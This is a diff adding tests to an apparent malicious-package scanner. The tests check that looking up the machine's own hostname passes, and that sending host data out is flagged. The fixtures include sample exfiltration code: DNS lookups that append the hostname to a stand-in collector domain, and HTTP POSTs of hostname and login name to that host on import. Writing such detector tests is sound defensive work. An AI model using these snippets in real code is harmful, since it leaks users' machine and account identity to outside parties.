@@ -4509,3 +4509,71 @@ def test_arms_of_an_if_in_a_loop_do_not_exclude_each_other():
     """
     files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": module}
     assert "high" in severities(scan(files), "intent.drop-payload")
+
+
+# -- resolving this host's own name is no DNS leak ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "lookup",
+    [
+        "socket.gethostbyname(socket.gethostname())",  # stomp.py's local addresses
+        "socket.getfqdn(socket.gethostname())",
+        "socket.getaddrinfo(socket.gethostname(), None)",
+    ],
+)
+def test_resolving_the_hosts_own_name_on_import_is_no_leak(lookup):
+    module = f"""
+        import socket
+
+        LOCALHOST_NAMES = ["localhost", "127.0.0.1"]
+        try:
+            LOCALHOST_NAMES.append({lookup})
+        except Exception:
+            pass
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": module})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "lookup",
+    [
+        'socket.gethostbyname(socket.gethostname() + ".h.collector-example.net")',
+        'socket.gethostbyname(f"{socket.gethostname()}.h.collector-example.net")',
+        'socket.getaddrinfo(platform.node() + ".h.collector-example.net", 53)',
+    ],
+)
+def test_a_host_name_put_under_someones_domain_on_import_still_blocks(lookup):
+    module = f"""
+        import platform
+        import socket
+
+        try:
+            {lookup}
+        except Exception:
+            pass
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": module})
+    assert result.verdict in FLAGGED
+    assert found(result, "intent.exfiltration")
+
+
+@pytest.mark.parametrize(
+    "send",
+    [
+        'conn = http.client.HTTPSConnection("t.collector-example.net", 443)\n'
+        'conn.request("POST", "/", json.dumps(info), {})',
+        's = requests.Session()\ns.post("https://t.collector-example.net/", data=info)',
+    ],
+)
+def test_host_identity_sent_through_a_client_object_on_import_blocks(send):
+    """A gap closed with the narrowing above: a connection's or a session's request method was
+    no network call (totallysafe's send was seen only where it looked its own address up)."""
+    module = "import http.client, json, os, socket, requests\n"
+    module += 'info = {"h": socket.gethostname(), "user": os.getlogin()}\n'
+    module += send + "\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
+    assert "critical" in severities(result, "intent.exfiltration")
+    assert result.verdict == "malicious"
